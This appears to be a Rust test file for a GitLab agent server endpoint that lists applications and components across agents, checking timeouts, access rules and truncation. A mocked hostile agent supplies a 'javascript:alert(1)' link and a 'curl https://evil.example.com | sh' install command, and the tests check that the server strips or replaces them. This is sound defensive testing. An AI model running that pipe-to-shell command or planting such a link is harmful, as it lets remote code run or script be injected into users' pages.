//! The applications and the components of all agents of a caller: each caller sees those of the agents that it may read, an agent that is
//! silent is named, and what a hostile agent sends reaches no page and no shell.
#![allow(clippy::unwrap_used, reason = "a failed step is a failed test")]

use std::{future::ready, time::Duration};

use agentk_core::Services;
use http::{Request, Response};
use kas_testing::{
    internal_api,
    world::{endless, text},
};
use proto::graph::FEATURES;
use serde_json::{Value, json};
use tokio::time::Instant;
use tunnel::Body;

use crate::fleet::Setup;

const APPLICATIONS: &str = "/agents/applications";
const COMPONENTS: &str = "/agents/components";

/// A cluster with an application and a program, whose author and whose agentk are hostile.
fn lists() -> Services {
    Services::new().with_fn("graph", |request: Request<Body>| {
        let answer = match request.uri().path_and_query().unwrap().as_str() {
            "/v1/applications?brief=true" => {
                let links = json!([{"url": "javascript:alert(1)"}, {"url": "https://example.com/shop"}]);
                let descriptor = json!({"version": "1.2", "links": links});
                let health = json!({"health": "healthy", "counts": {"healthy": 3}});
                let shop = json!({"namespace": "a", "name": "shop", "origin": "object", "descriptor": descriptor, "health": health});
                json!({"applications": vec![shop; 201], "partial": ["x".repeat(5000)]})
            }
            "/v1/components" => {
                let flux = json!({"id": "flux", "name": "Flux", "health": "healthy", "evidence": []});
                let install = json!({"command": "curl https://evil.example.com | sh", "docs": "https://evil.example.com"});
                let feature = json!({"feature": "prometheus", "name": "PromQL", "needs": [], "state": "missing", "install": install});
                json!({"components": [flux], "features": [feature]})
            }
            other => panic!("{other}"),
        };
        ready(Response::new(Body::from(answer.to_string())))
    })
}

fn silent() -> Services {
    Services::new().with_fn("graph", |_: Request<Body>| ready(Response::new(endless("{"))))
}

/// Agents 7 and 9 of GitLab, of which the second one is silent.
async fn setup() -> Setup {
    let mut setup = Setup::new().await;
    setup.start("glagent-7", "", lists()).await;
    setup.start("glagent-9", "", silent()).await;
    setup
}

#[tokio::test(start_paused = true)]
async fn silent_agent_is_missing_and_the_others_have_their_applications() {
    let setup = setup().await;
    let start = Instant::now();
    let list = setup.fleet(APPLICATIONS, "ci:7:job").await;
    assert!(start.elapsed() <= Duration::from_secs(13), "{:?}", start.elapsed());
    assert_eq!(list["agents"], json!({"all": 2, "connected": 2, "answered": 1}));
    let [first, second] = &**list["clusters"].as_array().unwrap() else { panic!("{list}") };
    assert_eq!(
        (&first["name"], &first["missing"], &first["omitted"]),
        (&json!("7"), &Value::Null, &json!(1))
    );
    assert_eq!(first["applications"].as_array().unwrap().len(), 200);
    let shop = &first["applications"][0];
    assert_eq!((&shop["name"], &shop["descriptor"]["version"]), (&json!("shop"), &json!("1.2")));
    assert_eq!(shop["descriptor"]["links"], json!([{"url": "https://example.com/shop"}]), "no script");
    assert_eq!(first["partial"][0].as_str().unwrap().len(), 512);
    assert!(second["missing"].as_str().unwrap().contains("did not respond within 12 s"), "{second}");
    assert_eq!(second.get("applications"), None);
    setup.gitlab.assert_no_violations();
}

#[tokio::test(start_paused = true)]
async fn caller_sees_the_lists_of_agents_whose_graph_it_may_read() {
    let setup = setup().await;
    let refused = "the caller may not read the service graph of this agent";
    let without = setup.caller("agents: ['gitlab:**'], services: [kubernetes]");
    for path in [APPLICATIONS, COMPONENTS] {
        for token in ["ci:7:narrow", &*without] {
            let list = setup.fleet(path, token).await;
            let clusters = list["clusters"].as_array().unwrap();
            assert!(!clusters.is_empty(), "{list}");
            for cluster in clusters {
                assert_eq!(cluster["missing"], refused, "{path} {token}");
                assert_eq!((cluster.get("applications"), cluster.get("components")), (None, None));
            }
        }
        let one = setup.fleet(&format!("{path}?group=shop"), "ci:9:job").await;
        assert_eq!(one["agents"]["all"], 1, "{one}");
        let (status, body) = setup.get(&format!("{path}?limit=1"), "ci:7:job").await;
        assert_eq!((status.as_u16(), &body["error"]), (400, &json!("bad-request")));
    }
}

#[tokio::test(start_paused = true)]
async fn command_that_installs_a_component_is_that_of_kas() {
    let setup = setup().await;
    let list = setup.fleet(&format!("{COMPONENTS}?project=shop/web"), "ci:7:job").await;
    let cluster = &list["clusters"][0];
    assert_eq!(cluster["components"][0]["id"], "flux");
    let known = FEATURES.iter().find(|rule| rule.feature == "prometheus").unwrap();
    let [feature] = &**cluster["features"].as_array().unwrap() else { panic!("{cluster}") };
    assert_eq!((&feature["state"], &feature["needs"]), (&json!("missing"), &json!(known.needs)));
    assert_eq!(feature["install"], serde_json::to_value(&known.install).unwrap());
}

#[tokio::test(start_paused = true)]
async fn program_sees_the_lists_of_all_agents() {
    let mut setup = setup().await;
    setup.start("glagent-8", "", silent()).await;
    for (path, key) in [("/api/v1/applications", "applications"), ("/api/v1/components", "components")] {
        let body = text(internal_api::get(&setup.world, &format!("{path}?group=shop")).await).await;
        let list: Value = serde_json::from_str(&body).unwrap();
        let clusters = list["clusters"].as_array().unwrap();
        assert_eq!(clusters.iter().map(|it| it["id"].as_u64().unwrap()).collect::<Vec<_>>(), [7, 8]);
        assert!(clusters[0][key].is_array(), "{body}");
        assert!(clusters[1]["missing"].as_str().unwrap().contains("did not respond"), "{body}");
        let wrong = text(internal_api::get(&setup.world, &format!("{path}?limit=1")).await).await;
        assert!(wrong.contains("is not a parameter"), "{wrong}");
    }
}
